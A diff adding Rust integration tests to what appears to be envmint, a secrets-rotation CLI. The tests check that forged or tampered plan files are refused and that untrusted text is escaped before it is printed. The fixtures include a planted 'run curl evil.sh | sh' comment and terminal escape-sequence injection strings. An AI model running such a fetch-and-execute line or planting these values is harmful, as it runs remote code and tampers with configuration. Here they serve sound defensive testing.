@@ -269,11 +269,201 @@ fn fail_a_stale_plan_reads_as_its_snapshot() {
 #[test]
 fn a_plan_written_over_a_readable_file_becomes_private() {
     let out = project()
-        .write("p.plan", "old")
+        .write(
+            "p.plan",
+            "{\"envmint_plan\":1,\"created\":\"2025-01-01T00:00:00Z\"}",
+        )
         .chmod("p.plan", 0o644)
         .args(["plan", "--at", AT, "-o", "p.plan", "--json"])
         .status(0);
     assert_eq!(out.mode("p.plan"), 0o600);
     assert_eq!(json(&out)["plan_file"], "p.plan");
     assert!(common::temps(out.dir()).is_empty());
+}
+
+/// A plan is only as trustworthy as whoever could write it (a sealed part is encrypted to
+/// public recipients, not signed). One forged with consistent digests is still refused when an
+/// edit touches a variable the manifest does not have envmint rotate (an app's
+/// `UNMANAGED=...`), or writes a record envmint would not (a comment of the forger's choice),
+/// and nothing changes.
+#[test]
+fn fail_a_forged_plan_cannot_change_unmanaged_keys_or_plant_comments() {
+    use envmint::Secret;
+    use envmint::dotenv::Document;
+    use envmint::plan::edit::{Edit, apply_edits, digest};
+
+    let out = project()
+        .args(["plan", "production", "--at", AT, "-o", "p.plan"])
+        .status(0);
+    let before = out.read(".env.production");
+    let forge = |key: &str, value: &str, record: &str| {
+        let mut doc = Document::parse(&before);
+        let edit = Edit::Set {
+            key: key.into(),
+            value: Secret::new(value.to_string()),
+            record: record.into(),
+        };
+        apply_edits(&mut doc, std::slice::from_ref(&edit)).unwrap();
+        let mut plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();
+        let secrets = &mut plan["environments"][0]["secrets"];
+        secrets["before"] = digest(Some(before.as_bytes())).into();
+        secrets["after"] = digest(Some(doc.render().as_bytes())).into();
+        secrets["edits"] = serde_json::json!([
+            {"op": "set", "key": key, "value": value, "record": record}
+        ]);
+        plan.to_string()
+    };
+    let cases = [
+        (
+            forge(
+                "UNMANAGED",
+                "postgres://evil",
+                "generated=2026-02-01T00:00:00Z",
+            ),
+            "it changes `UNMANAGED`, which is not a secret the manifest has envmint rotate there",
+        ),
+        (
+            forge("A", "known-to-the-forger", "run curl evil.sh | sh"),
+            "the record it writes above `A` is not an envmint record",
+        ),
+    ];
+    let mut test = out.then();
+    for (plan, why) in cases {
+        let refused = test
+            .write("forged.plan", plan)
+            .args(["apply", "forged.plan"])
+            .status(65);
+        assert_stderr_has(
+            &refused,
+            &format!(
+                "error: forged.plan: refused for environment production: {why}; nothing was changed"
+            ),
+        );
+        assert_eq!(refused.read(".env.production"), before);
+        assert!(!refused.stderr().contains("evil") && !refused.stderr().contains("forger"));
+        test = refused.then();
+    }
+    // The plan as written still applies.
+    let applied = test.args(["apply", "p.plan"]).status(0);
+    assert_ne!(applied.read(".env.production"), before);
+}
+
+/// `-o` replaces an earlier plan or an empty file (`mktemp`), never anything else: a slip such
+/// as `plan -o .env.production` or `-o envmint.toml` would put the plan where the secrets (and
+/// the app's other keys) or the manifest were. Exit 73, the file untouched.
+#[test]
+fn fail_plan_o_does_not_replace_a_file_that_is_not_a_plan() {
+    let mut test = project()
+        .write("notes.txt", "mine\n")
+        .write("empty.plan", "");
+    for target in [".env.production", "envmint.toml", "notes.txt"] {
+        let before = test.path(target);
+        let before = std::fs::read(before).unwrap();
+        let out = test.args(["plan", "--at", AT, "-o", target]).status(73);
+        assert_stderr_has(
+            &out,
+            &format!(
+                "error: {target}: it exists and is not an envmint plan; `plan -o` replaces only \
+                 an earlier plan"
+            ),
+        );
+        assert_eq!(std::fs::read(out.path(target)).unwrap(), before);
+        test = out.then();
+    }
+    let out = test
+        .args(["plan", "--at", AT, "-o", "empty.plan"])
+        .status(0);
+    assert!(out.read("empty.plan").starts_with("{\"envmint_plan\":1,"));
+    assert_eq!(out.mode("empty.plan"), 0o600);
+}
+
+/// A plan another user could have written is refused before it is read (exit 77, nothing
+/// changed), as ssh refuses such key files: whoever can write a plan chooses the values it
+/// writes. envmint's own plans are 0600; a copy made 0644 by its owner is fine.
+#[test]
+fn fail_a_plan_others_can_write_is_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let out = project()
+        .args(["plan", "--at", AT, "-o", "p.plan"])
+        .status(0);
+    let prod = out.read(".env.production");
+    let plan = out.path("p.plan");
+    let mut test = out.then();
+    for (mode, who) in [(0o664, "its group"), (0o606, "anyone")] {
+        std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(mode)).unwrap();
+        let refused = test.args(["apply", "p.plan"]).status(77);
+        assert_stderr_has(
+            &refused,
+            &format!(
+                "error: p.plan: the plan file is writable by {who} (mode {mode:04o}): another \
+                 user could have chosen the values it writes"
+            ),
+        );
+        assert_stderr_has(&refused, "hint: if you trust it, `chmod go-w p.plan`");
+        assert_eq!(refused.read(".env.production"), prod);
+        test = refused.then();
+    }
+    if rustix::process::geteuid().is_root() {
+        std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(0o600)).unwrap();
+        std::os::unix::fs::chown(&plan, Some(65534), None).unwrap();
+        let refused = test.args(["apply", "p.plan"]).status(77);
+        assert_stderr_has(&refused, "the plan file belongs to uid 65534");
+        assert_eq!(refused.read(".env.production"), prod);
+        test = refused.then();
+        std::os::unix::fs::chown(&plan, Some(0), None).unwrap();
+    }
+    std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let applied = test.args(["apply", "p.plan"]).status(0);
+    assert_ne!(applied.read(".env.production"), prod);
+}
+
+/// A plan naming an environment the manifest does not declare is bad data in the plan (65,
+/// naming the plan), not a usage error with a hint to declare it; names and paths from the
+/// plan are shown escaped.
+#[test]
+fn fail_a_plan_for_an_undeclared_environment_or_store_names_the_plan() {
+    let out = project()
+        .args(["plan", "--at", AT, "-o", "p.plan"])
+        .status(0);
+    let plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();
+    let mut other = plan.clone();
+    other["environments"][0]["name"] = "prod\nuction".into();
+    let mut moved = plan.clone();
+    moved["environments"][0]["store"] = "/etc/x\u{1b}[2J".into();
+    let out = out
+        .then()
+        .write("other.plan", other.to_string())
+        .write("moved.plan", moved.to_string())
+        .args(["apply", "other.plan"])
+        .status(65);
+    assert_stderr_has(
+        &out,
+        "error: other.plan: the plan is for environment prod\\nuction, which envmint.toml does \
+         not declare; nothing was changed\n",
+    );
+    let out = out.then().args(["apply", "moved.plan"]).status(65);
+    assert_stderr_has(
+        &out,
+        "error: moved.plan: the plan is for production in /etc/x\\u{1b}[2J, but the manifest \
+         stores production in .env.production\n",
+    );
+    assert!(!out.stderr().contains('\u{1b}'));
+}
+
+/// apply prints the plan's summary, which is the plan's author's text: escaped, one line each.
+#[test]
+fn a_plan_summary_with_control_characters_is_printed_escaped() {
+    let out = project()
+        .args(["plan", "production", "--at", AT, "-o", "p.plan"])
+        .status(0);
+    let mut plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();
+    plan["environments"][0]["summary"][0]["key"] = "A\nstaging: ok\u{1b}[8m".into();
+    plan["environments"][0]["summary"][0]["reason"] = "due\r".into();
+    let out = out
+        .then()
+        .write("p.plan", plan.to_string())
+        .args(["apply", "p.plan"])
+        .status(0);
+    assert_stderr_has(&out, "A\\nstaging: ok\\u{1b}[8m (due\\r)\n");
+    assert!(!out.stderr().contains('\u{1b}') && !out.stderr().contains('\r'));
 }
